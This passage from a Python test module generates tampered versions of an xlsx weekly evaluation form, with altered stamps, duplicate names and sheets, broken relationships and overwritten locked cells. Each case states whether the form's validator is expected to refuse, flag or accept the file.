    yield refused("without the list of its main parts", "file.not_xlsx", lambda f: f.packed({"_rels/.rels": None}))


def _identity() -> Iterator[Case]:
    book, rels = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
    yield refused(
        "no stamp at all",
        "file.not_ours",
        lambda f: f.packed(
            {
                "docProps/custom.xml": None,
                "xl/worksheets/sheet4.xml": f'<worksheet xmlns="{MAIN}"><sheetData/></worksheet>'.encode(),
            }
        ),
    )
    yield refused("a form of another week", "form.other_week", lambda _: filled(data=issued(week="2025-W22")))
    yield refused("a form that nobody issued", "form.unknown", lambda _: filled(data=issued(form_id="0" * 32)))
    theirs = issued(form_id="0" * 32, week="2025-W22", office="0123456789abcdef")
    yield refused("a form of another office", "form.other_office", lambda _: filled(data=theirs))
    for field in ("kind", "form_id", "week", "subject"):
        new = {"kind": "unit_form", "form_id": COLLEAGUE["form_id"], "week": "2025-W24", "subject": "V1-04"}[field]
        edited = _with_property(field, new)
        yield (
            refused(f"another {field} in its properties", "form.other_week", edited)
            if field == "week"
            else invalid(f"another {field} in its properties", "stamp.altered", edited)
        )
    yield Case(
        "its properties lost",
        "submitted",
        frozenset({"stamp.one_lost"}),
        lambda f: f.packed({"docProps/custom.xml": None}),
    )
    yield refused(
        "a property twice",
        "file.twin_names",
        lambda f: f.edited(
            "docProps/custom.xml",
            "</Properties>",
            re.search(r"<property.*?</property>", f.parts["docProps/custom.xml"].decode())[0] + "</Properties>",
        ),
    )  # type: ignore[index]
    for name in ("ev_self_quality", "EV_SELF_QUALITY", "ev_stamp_week"):
        yield refused(
            f"the name {name} twice",
            "file.twin_names",
            lambda f, n=name: f.edited(
                book, "</definedNames>", f"<definedName name=\"{n}\">'Phiếu'!$A$1</definedName></definedNames>"
            ),
        )
    yield harmless(
        "a name of one sheet that is called like ours",
        lambda f: f.edited(
            book,
            "</definedNames>",
            '<definedName name="ev_self_quality" localSheetId="1">\'Phiếu\'!$A$1</definedName></definedNames>',
        ),
    )
    for name in ("ev_self_quality", "EV_Self_Quality"):
        yield invalid(
            f"a name {name} that the field's own sheet has for itself",
            "names.twin",
            lambda f, n=name: f.edited(
                book,
                "</definedNames>",
                f'<definedName name="{n}" localSheetId="{_number_of(f, "Phiếu")}">\'Phiếu\'!$A$1:$XFD$1048576</definedName></definedNames>',
            ),
        )
    yield harmless(
        "names that others leave",
        lambda f: f.edited(
            book,
            "</definedNames>",
            '<definedName name="_xlnm._FilterDatabase" localSheetId="1" hidden="1">\'Phiếu\'!$A$1</definedName><definedName name="cu">#REF!</definedName></definedNames>',
        ),
    )
    yield refused(
        "dates from 1904 on", "file.other_calendar", lambda f: f.edited(book, "<workbookPr", '<workbookPr date1904="1"')
    )
    yield refused(
        "one part as two sheets",
        "file.twin_sheets",
        lambda f: f.edited(book, "</sheets>", '<sheet name="Bản hai" sheetId="9" r:id="rId1"/></sheets>'),
    )
    yield refused("two sheets of one name", "file.twin_sheets", lambda f: _more_sheet(f, "PHIẾU"))
    yield harmless("a sheet of the person's own", lambda f: _more_sheet(f, "Nháp"), "file.sheet_added")
    yield harmless(
        "a hidden sheet of the person's own", lambda f: _more_sheet(f, "Nháp", ' state="hidden"'), "file.sheet_added"
    )
    yield refused(
        "101 sheets",
        "file.too_many_parts",
        lambda f: f.edited(
            book,
            "</sheets>",
            "".join(f'<sheet name="s{n}" sheetId="{n + 9}" r:id="rIdX{n}"/>' for n in range(101)) + "</sheets>",
        ),
    )
    yield refused(
        "two relations of one name",
        "file.odd_package",
        lambda f: f.edited(
            rels,
            "</Relationships>",
            f'<Relationship Id="rId1" Type="{RELATIONS}/worksheet" Target="worksheets/sheet4.xml"/></Relationships>',
        ),
    )
    for kind, target in (("styles", "styles.xml"), ("styles", "styles2.xml")):
        yield refused(
            f"two relations to {target}",
            "file.odd_package",
            lambda f, k=kind, t=target: f.edited(
                rels,
                "</Relationships>",
                f'<Relationship Id="rIdZ" Type="{RELATIONS}/{k}" Target="{t}"/></Relationships>',
            ),
        )
    yield refused(
        "two workbooks",
        "file.odd_package",
        lambda f: f.edited(
            "_rels/.rels",
            "</Relationships>",
            f'<Relationship Id="rIdZ" Type="{RELATIONS}/officeDocument" Target="xl/worksheets/sheet1.xml"/></Relationships>',
        ),
    )
    yield refused(
        "a workbook that is not there",
        "file.not_xlsx",
        lambda f: f.edited("_rels/.rels", "xl/workbook.xml", "xl/andere.xml"),
    )
    yield refused(
        "a sheet that is not there",
        "file.damaged",
        lambda f: f.edited(rels, "worksheets/sheet1.xml", "worksheets/sheet7.xml"),
    )
    yield refused(
        "a sheet out of the package",
        "file.damaged",
        lambda f: f.edited(rels, "worksheets/sheet1.xml", "../../worksheets/sheet1.xml"),
    )
    for name in ("ev_person_code", "ev_person_name", "ev_unit_code", "ev_week"):
        yield invalid(
            f"{name} written over",
            "cell.locked_changed",
            lambda f, n=name: f.with_cell(n, '<c r="{r}" s="{s}" t="inlineStr"><is><t>V1-04</t></is></c>'),
        )
    yield invalid(
        "the total typed over",
        "cell.formula_replaced",
        lambda f: f.with_cell("ev_self_total", '<c r="{r}" s="{s}"><v>100</v></c>'),
    )
    yield invalid(
        "another formula for the total",
        "cell.formula_changed",
        lambda f: f.with_cell("ev_self_total", '<c r="{r}" s="{s}"><f>100</f><v>91</v></c>'),
    )


def _with_property(field: str, new: str) -> Callable[[Form], bytes]:
    pattern = re.compile(rf'(name="evalxl.{field}"[^>]*><[^>]*>)[^<]*')
    return _changed("docProps/custom.xml", lambda text: pattern.sub(rf"\g<1>{new}", text).encode())


def _more_sheet(form: Form, name: str, state: str = "") -> bytes:
    rels = (
        form.parts["xl/_rels/workbook.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            f'<Relationship Id="rIdN" Type="{RELATIONS}/worksheet" Target="worksheets/sheet9.xml"/></Relationships>',
        )
    )
    listed = (
        form.parts["xl/workbook.xml"]
        .decode()
        .replace("</sheets>", f'<sheet name="{name}" sheetId="9"{state} r:id="rIdN"/></sheets>')
    )
    text = f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'
    return form.packed(
        {
            "xl/_rels/workbook.xml.rels": rels.encode(),
            "xl/workbook.xml": listed.encode(),
            "xl/worksheets/sheet9.xml": text.encode(),
        }
    )
